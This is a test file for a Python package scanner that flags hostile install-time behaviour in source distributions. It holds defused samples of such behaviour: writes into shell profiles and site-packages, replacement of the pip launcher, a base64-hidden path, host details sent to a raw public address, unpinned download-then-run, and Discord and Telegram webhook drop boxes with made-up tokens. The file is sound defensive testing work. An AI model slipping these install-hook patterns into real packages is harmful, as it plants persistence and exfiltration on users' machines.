"""Install-time side effects outside the build (hook/outside-write): files written, appended,
touched, copied, linked or made executable in home, temp, absolute or interpreter folders,
through Python's file API or a shell command, directly or through the module's own helpers.

Each technique is a minimal harmless reconstruction: the "payload" is a path under
`/tmp/demo-canary` or a harmless launcher text; nothing is ever run (the scan reads the
sdist). The ordinary build shapes beside them (scratch folders from tempfile, writes into the
tree and build/, shell probes with `2>/dev/null`) must stay clean.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path

import pytest

from safepip.checks.hooks.places import command_writes, outside_text
from safepip.checks.install_hooks import InstallHookCheck, scan_path
from safepip.findings import Finding, Severity
from tests.checks.hostile import beyond_canary, make_sdist, setup_py

_CANARY = "/tmp/demo-canary"  # a path in scanned text, never opened


@dataclass(frozen=True)
class Sample:
    name: str
    body: str
    files: dict[str, str] = field(default_factory=dict)


SIDE_EFFECTS = (
    Sample("pathlib-touch-of-an-absolute-path",
           f"from pathlib import Path\nPath({_CANARY!r}).touch()\n"),
    Sample("file-in-home-named-by-expanduser",
           "import os\nopen(os.path.expanduser('~/.demo-canary'), 'w').write('x')\n"),
    Sample("fixed-name-in-the-shared-temp-folder",
           "import os, tempfile\n"
           "open(os.path.join(tempfile.gettempdir(), 'demo-canary'), 'w').write('x')\n"),
    Sample("file-in-a-folder-from-the-environment",
           "import os\nopen(os.environ['HOME'] + '/.demo-canary', 'a').write('x')\n"),
    Sample("os-open-with-write-flags",
           f"import os\nfd = os.open({_CANARY!r}, os.O_WRONLY | os.O_CREAT)\nos.write(fd, b'x')\n"),
    Sample("open-mode-held-in-a-name",
           f"mode = 'a'\nopen({_CANARY!r}, mode).write('x')\n"),
    Sample("open-by-keywords", f"open(file={_CANARY!r}, mode='w').write('x')\n"),
    Sample("shell-touch", f"import os\nos.system('touch {_CANARY}')\n"),
    Sample("shell-redirect-into-home",
           "import subprocess\nsubprocess.run('echo x >> ~/.demo-canary', shell=True)\n"),
    Sample("sh-c-in-argv",
           f"import subprocess\nsubprocess.call(['sh', '-c', 'printf x > {_CANARY}'])\n"),
    Sample("cd-into-temp-then-touch", "import os\nos.system('cd /tmp && touch demo-canary')\n"),
    Sample("pip-launcher-in-sys-prefix",
           "import os, sys\np = os.path.join(sys.prefix, 'bin', 'pip')\n"
           "open(p, 'w').write('#!/bin/sh\\necho demo\\n')\nos.chmod(p, 0o755)\n"),
    Sample("pip-launcher-beside-the-interpreter",
           "import os, shutil, sys\n"
           "shutil.copy('tools/launcher', os.path.join(os.path.dirname(sys.executable), 'pip3'))\n",
           {"tools/launcher": "#!/bin/sh\necho demo\n"}),
    Sample("pip-launcher-in-a-folder-from-a-variable",
           "import os\np = os.path.join(os.environ['DEMO_ROOT'], 'bin', 'pip')\n"
           "open(p, 'w').write('#!/bin/sh\\n')\n"),
    Sample("link-into-the-scripts-folder",
           "import os, sysconfig\n"
           "os.symlink('/bin/true', os.path.join(sysconfig.get_path('scripts'), 'demo'))\n"),
    Sample("pth-into-a-folder-found-on-sys-path",
           "import os, sys\nd = [p for p in sys.path if p.endswith('site-packages')][0]\n"
           "open(os.path.join(d, 'demo.pth'), 'w').write('import os\\n')\n"),
    Sample("copy-next-to-an-installed-module",
           "import os, shutil\n"
           "shutil.copy('demo.txt', os.path.join(os.path.dirname(os.__file__), 'demo.txt'))\n"),
    Sample("cp-into-site-packages-by-argv",
           "import site, subprocess\n"
           "subprocess.call(['cp', 'demo.txt', site.getsitepackages()[0]])\n"),
    Sample("archive-unpacked-into-home",
           "import os, zipfile\n"
           "zipfile.ZipFile('data/demo.zip').extractall(os.path.expanduser('~/.local'))\n"),
    Sample("helper-writes-the-path-it-is-given",
           "def put(path, data):\n    with open(path, 'w') as out:\n        out.write(data)\n"
           f"put({_CANARY!r}, 'x')\n"),
    Sample("method-writes-the-path-it-is-given",
           "class Step:\n    def put(self, path):\n        open(path, 'w').write('x')\n"
           f"    def run(self):\n        self.put({_CANARY!r})\nStep().run()\n"),
    Sample("helper-runs-the-command-it-is-given",
           "import subprocess\ndef sh(command):\n    subprocess.call(command, shell=True)\n"
           f"sh('touch {_CANARY}')\n"),
    Sample("open-through-an-alias", f"o = open\no({_CANARY!r}, 'w').write('x')\n"),
    Sample("fileio-of-an-absolute-path",
           f"import io\nio.FileIO({_CANARY!r}, 'w').write(b'x')\n"),
    Sample("path-held-in-a-class-constant",
           f"class Paths:\n    OUT = {_CANARY!r}\nopen(Paths.OUT, 'w').write('x')\n"),
    Sample("path-held-in-a-dict-literal",
           f"PLACES = {{'out': {_CANARY!r}}}\nopen(PLACES['out'], 'w').write('x')\n"),
    Sample("path-as-a-parameter-default",
           f"def put(path={_CANARY!r}):\n    open(path, 'w').write('x')\nput()\n"),
    Sample("path-as-an-environment-lookup-default",
           f"import os\nopen(os.environ.get('DEMO_OUT', {_CANARY!r}), 'w').write('x')\n"),
    Sample("path-decoded-at-run-time",
           "import base64\n"
           "open(base64.b64decode('L3RtcC9kZW1vLWNhbmFyeQ==').decode(), 'w').write('x')\n"),
    Sample("copy-handed-to-a-thread",
           "import shutil, threading\n"
           f"threading.Thread(target=shutil.copy, args=('README', {_CANARY!r})).start()\n"),
    Sample("path-returned-by-a-helper",
           f"def target():\n    return {_CANARY!r}\nopen(target(), 'w').write('x')\n"),
    Sample("home-path-returned-by-a-helper",
           "import os\ndef profile():\n    return os.path.expanduser('~/.demo-canary')\n"
           "open(profile(), 'a').write('x')\n"),
    Sample("path-returned-by-a-lambda",
           f"target = lambda: {_CANARY!r}\nopen(target(), 'w').write('x')\n"),
    Sample("write-in-a-command-class",
           "from setuptools.command.install import install\nclass Install(install):\n"
           f"    def run(self):\n        open({_CANARY!r}, 'w').write('x')\n"
           "        install.run(self)\n"),
    Sample("write-in-a-module-setup-imports",
           "import tools.prep\n",
           {"tools/__init__.py": "", "tools/prep.py": f"open({_CANARY!r}, 'w').write('x')\n"}),
)

PERSISTENT = (
    Sample("shell-append-to-a-shell-profile",
           "import os\nos.system('echo export DEMO=1 >> ~/.bashrc')\n"),
    Sample("helper-appends-to-a-shell-profile",
           "import os\ndef add(path):\n    open(path, 'a').write('export DEMO=1\\n')\n"
           "add(os.path.expanduser('~/.zshrc'))\n"),
)

ORDINARY = (
    Sample("compiler-probe-in-a-private-temp-folder",
           "import os, subprocess, tempfile\n"
           "with tempfile.TemporaryDirectory() as tmp:\n"
           "    src = os.path.join(tmp, 'probe.c')\n"
           "    open(src, 'w').write('int main(void) { return 0; }')\n"
           "    subprocess.call(['cc', src, '-o', os.path.join(tmp, 'probe')],\n"
           "                    stderr=subprocess.DEVNULL)\n"),
    Sample("relative-probe-after-chdir-into-mkdtemp",
           "import os, shutil, tempfile\nold = os.getcwd()\ntmp = tempfile.mkdtemp()\n"
           "os.chdir(tmp)\nopen('test.c', 'w').write('int main(void) { return 0; }')\n"
           "os.chdir(old)\nshutil.rmtree(tmp)\n"),
    Sample("version-file-written-into-the-tree",
           "import os\nhere = os.path.dirname(os.path.abspath(__file__))\n"
           "with open(os.path.join(here, 'demo', '_version.py'), 'w') as f:\n"
           "    f.write('__version__ = \"1.0\"\\n')\n"),
    Sample("generated-header-in-build",
           "import os\nfrom pathlib import Path\nos.makedirs('build/gen', exist_ok=True)\n"
           "Path('build/gen/config.h').write_text('#define DEMO 1\\n')\n"
           "open(os.path.join(os.path.dirname(__file__), 'build', 'stamp'), 'w').close()\n"),
    Sample("copy-into-build-lib-from-a-command",
           "import os, shutil\nfrom setuptools.command.build_py import build_py\n"
           "class BuildPy(build_py):\n    def run(self):\n        build_py.run(self)\n"
           "        target = os.path.join(self.build_lib, 'demo')\n"
           "        shutil.copy('data/table.bin', target)\n        os.chmod(target, 0o755)\n"),
    Sample("tree-shell-steps-and-quiet-probes",
           "import os, subprocess\nos.system('rm -f build/*.o')\n"
           "subprocess.call('touch configure.ac aclocal.m4 Makefile.in', shell=True)\n"
           "os.system('make > build.log 2>&1')\nos.system('cc --version > /dev/null 2>&1')\n"),
    Sample("null-device-and-setup-folder",
           "import os, sys\nnull = open(os.devnull, 'w')\n"
           "open(os.path.join(sys.path[0], 'demo', 'generated.py'), 'w').write('X = 1\\n')\n"),
    Sample("download-cache-in-the-user-cache-folder",
           "import os\nfrom pathlib import Path\n"
           "def cache_dir():\n"
           "    base = os.environ.get('XDG_CACHE_HOME') or os.path.expanduser('~/.cache')\n"
           "    return Path(base, 'demo')\n"
           "def keep(data, name):\n"
           "    cache_dir().mkdir(parents=True, exist_ok=True)\n"
           "    with open(cache_dir() / name, 'xb') as out:\n        out.write(data)\n"
           "keep(b'x', 'lib-1.0.tar.gz')\n"),
    Sample("cache-file-named-by-a-hash-of-the-interpreter",
           "import hashlib, os, sys\n"
           "def build(folder, name):\n    open(os.path.join(folder, name + '.pyx'), 'w')\n"
           "def main(folder):\n"
           "    name = 'm_' + hashlib.sha1(sys.executable.encode()).hexdigest()\n"
           "    build(folder, name)\n"
           "main(os.environ.get('DEMO_CACHE', 'build'))\n"),
)

LIBRARY_CODE = Sample(
    "library-saves-its-settings-under-home",
    "",
    {"demo/__init__.py": "import os\n"
     "def save(settings):\n"
     "    path = os.path.expanduser('~/.config/demo/settings.json')\n"
     "    with open(path, 'w') as out:\n        out.write(settings)\n"},
)


def _scan(sample: Sample, tmp_path: Path) -> list[Finding]:
    files = {"setup.py": setup_py(sample.body, tmp_path / "canary"), **sample.files}
    findings = scan_path(make_sdist(tmp_path, "demo", "1.0", files))
    return beyond_canary(findings, tmp_path / "canary")


def _worst(findings: list[Finding], rule: str) -> Severity:
    return max((f.severity for f in findings if f.rule == rule), default=Severity.INFO)


@pytest.mark.parametrize("sample", SIDE_EFFECTS, ids=lambda s: s.name)
def test_a_side_effect_outside_the_build_blocks(sample: Sample, tmp_path: Path) -> None:
    findings = _scan(sample, tmp_path)
    assert _worst(findings, "hook/outside-write") >= Severity.HIGH, findings
    assert not (tmp_path / "canary").exists()


@pytest.mark.parametrize("sample", PERSISTENT, ids=lambda s: s.name)
def test_a_write_into_a_shell_profile_is_persistence(sample: Sample, tmp_path: Path) -> None:
    findings = _scan(sample, tmp_path)
    assert _worst(findings, "hook/persistence") >= Severity.HIGH, findings


@pytest.mark.parametrize("sample", ORDINARY, ids=lambda s: s.name)
def test_ordinary_build_writes_stay_clean(sample: Sample, tmp_path: Path) -> None:
    findings = _scan(sample, tmp_path)
    assert all(f.severity < Severity.MEDIUM for f in findings), findings


def test_a_library_writing_under_home_when_used_is_not_blocked(tmp_path: Path) -> None:
    findings = _scan(LIBRARY_CODE, tmp_path)
    assert all(f.severity < Severity.LOW for f in findings), findings


@pytest.mark.parametrize("sample", SIDE_EFFECTS + PERSISTENT + ORDINARY, ids=lambda s: s.name)
def test_prefilter_hides_nothing_at_import_time(sample: Sample, tmp_path: Path) -> None:
    files = {"setup.py": "from setuptools import setup\nsetup(name='demo', version='1.0')\n",
             "demo/__init__.py": sample.body}
    sdist = make_sdist(tmp_path, "demo", "1.0", files)
    filtered = scan_path(sdist, check=InstallHookCheck(prefilter=True))
    complete = scan_path(sdist, check=InstallHookCheck(prefilter=False))
    assert sorted(map(repr, filtered)) == sorted(map(repr, complete))


@pytest.mark.parametrize(
    ("command", "outside"),
    [
        ("touch /tmp/x", True),
        ("echo a>>~/.profile", True),
        ("sudo install -m 755 tool /usr/local/bin/tool", True),
        ("dd if=blob of=/var/tmp/x", True),
        ("cmd /c copy tool %APPDATA%\\tool.exe", True),
        ("bash -c 'cd /opt && cp a b'", True),
        ("cc -o probe probe.c 2>/dev/null", False),
        ("make > build.log 2>&1", False),
        ("rm -f build/*.o", False),
        ("cd ? ; git pull", False),
        ("cp ? ?", False),
        # a copy or a link writes its last operand only (ibm_db copies a z/OS data set in)
        ("cp //'DSN.SDSNC.H' sdsnc.h", False),
        ("ln -s /usr/lib/libfoo.so.1 build/libfoo.so", False),
        ("cp build/tool /usr/local/bin/tool", True),
        ("cp -t /usr/local/bin build/tool", True),
        ("mv /etc/hosts hosts.bak", True),  # a move removes its source
    ],
)
def test_shell_writes_outside_the_tree(command: str, outside: bool) -> None:
    assert (command_writes(command) is not None) is outside


@pytest.mark.parametrize(
    ("path", "outside"),
    [("/etc/x", True), ("~/x", True), ("$HOME/x", True), ("C:\\Users\\x", True),
     ("?/bin/pip", True), ("?/lib/site-packages/x", True), ("/dev/null", False),
     ("build/x", False), ("?/x.txt", False), ("?", False)],
)
def test_paths_outside_the_tree(path: str, outside: bool) -> None:
    assert (outside_text(path) is not None) is outside


# A public address is needed for the technique (documentation ranges are not public); the
# scan never connects anywhere, and the socket guard allows only loopback anyway.
_PUBLIC = "9.9.9.9"
RAW_SERVERS = (
    Sample("host-description-to-a-raw-address-over-a-socket",
           "import platform, socket\nfrom setuptools.command.install import install\n"
           "def report():\n"
           "    text = f'{platform.system()} {platform.release()}'\n"
           "    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
           f"    s.connect(({_PUBLIC!r}, 9090))\n    s.send(text.encode())\n"
           "class Install(install):\n    def run(self):\n        install.run(self)\n"
           "        report()\n"),
    Sample("request-to-a-url-with-a-raw-address",
           "import urllib.request\n"
           f"urllib.request.urlopen('http://{_PUBLIC}/ping?v=1')\n"),
)
NAMED_SERVERS = (
    Sample("local-test-server-and-a-four-part-version",
           "import socket, urllib.request\nVERSION = '1.2.3.4'\n"
           "s = socket.create_connection(('127.0.0.1', 8080))\n"
           "urllib.request.urlopen('http://10.0.0.5/simple/demo/')\n"),
)


@pytest.mark.parametrize("sample", RAW_SERVERS, ids=lambda s: s.name)
def test_install_time_talk_to_a_raw_address_blocks(sample: Sample, tmp_path: Path) -> None:
    findings = _scan(sample, tmp_path)
    assert _worst(findings, "hook/network-fetch") >= Severity.HIGH, findings


@pytest.mark.parametrize("sample", NAMED_SERVERS, ids=lambda s: s.name)
def test_private_and_loopback_servers_do_not_block(sample: Sample, tmp_path: Path) -> None:
    findings = _scan(sample, tmp_path)
    assert all(f.severity < Severity.HIGH for f in findings), findings


_FETCH = (
    "import hashlib, subprocess, urllib.request\nfrom pathlib import Path\n"
    "EXPECTED = '" + "0" * 64 + "'\n"
    "def fetch(url, sha):\n"
    "    data = urllib.request.urlopen(url).read()\n"
    "{check}"
    "    with open(Path('build', 'lib.tar.gz'), 'wb') as out:\n        out.write(data)\n"
    "fetch('https://example.invalid/lib-1.0.tar.gz', EXPECTED)\n"
    "subprocess.check_call({program}, cwd='build/lib-1.0')\n"
)
_CHECK = ("    if hashlib.sha256(data).hexdigest() != sha:\n"
          "        raise RuntimeError('digest mismatch')\n")


@pytest.mark.parametrize(
    ("check", "program", "blocked"),
    [
        # matplotlib 3.8's freetype/qhull: the release pins the bytes it builds: a warning
        (_CHECK, "['demo-build']", False),
        # the same without the check: the server decides what is built
        ("", "['demo-build']", True),
        # a pinned payload that is then run itself still blocks
        (_CHECK, "['build/lib.tar.gz']", True),
    ],
    ids=["pinned-then-built", "unpinned-then-built", "pinned-then-run"],
)
def test_a_download_checked_against_a_pinned_digest_warns(
    check: str, program: str, blocked: bool, tmp_path: Path
) -> None:
    sample = Sample("fetch", _FETCH.format(check=check, program=program))
    findings = _scan(sample, tmp_path)
    worst = _worst(findings, "hook/download-exec")
    assert worst >= Severity.MEDIUM, findings
    assert (worst >= Severity.HIGH) is blocked, findings


# Shaped like real keys (ids and secrets of the right lengths), made up here.
_DISCORD = "https://discord.com/api/webhooks/" + "1" * 18 + "/" + "Ab3_-" * 13
_TOKEN = "123456789:AA" + "b" * 33
KEYED_ENDPOINTS = (
    Sample("discord-webhook-with-its-token-in-package-code", "",
           {"demo/__init__.py": f"import requests\nHOOK = {_DISCORD!r}\n"
            "def note(text):\n    requests.post(HOOK, json={'content': text})\n"}),
    Sample("telegram-bot-token-beside-the-api-address", "",
           {"demo/__init__.py": f"import requests\nTOKEN = {_TOKEN!r}\n"
            "def note(text):\n"
            "    requests.post('https://api.telegram.org/bot' + TOKEN + '/sendMessage',\n"
            "                  data={'chat_id': 1, 'text': text})\n"}),
)
WEBHOOK_CLIENT = Sample(
    "webhook-client-library", "",
    {"demo/__init__.py": "import requests\n"
     "BASE = 'https://discord.com/api/webhooks/{id}/{token}'\n"
     "def send(id, token, text):\n"
     "    requests.post(BASE.format(id=id, token=token), json={'content': text})\n"},
)


@pytest.mark.parametrize("sample", KEYED_ENDPOINTS, ids=lambda s: s.name)
def test_a_keyed_drop_box_blocks_even_at_import_time(sample: Sample, tmp_path: Path) -> None:
    findings = [f for f in _scan(sample, tmp_path) if f.message.endswith("(import time).")]
    assert _worst(findings, "hook/webhook") >= Severity.HIGH, findings


def test_a_webhook_client_library_is_not_blocked(tmp_path: Path) -> None:
    findings = _scan(WEBHOOK_CLIENT, tmp_path)
    assert all(f.severity < Severity.HIGH for f in findings), findings


@pytest.mark.parametrize("sample", (*KEYED_ENDPOINTS, WEBHOOK_CLIENT), ids=lambda s: s.name)
def test_prefilter_keeps_keyed_endpoints(sample: Sample, tmp_path: Path) -> None:
    files = {"setup.py": "from setuptools import setup\nsetup(name='demo', version='1.0')\n",
             **sample.files}
    sdist = make_sdist(tmp_path, "demo", "1.0", files)
    filtered = scan_path(sdist, check=InstallHookCheck(prefilter=True))
    complete = scan_path(sdist, check=InstallHookCheck(prefilter=False))
    assert sorted(map(repr, filtered)) == sorted(map(repr, complete))
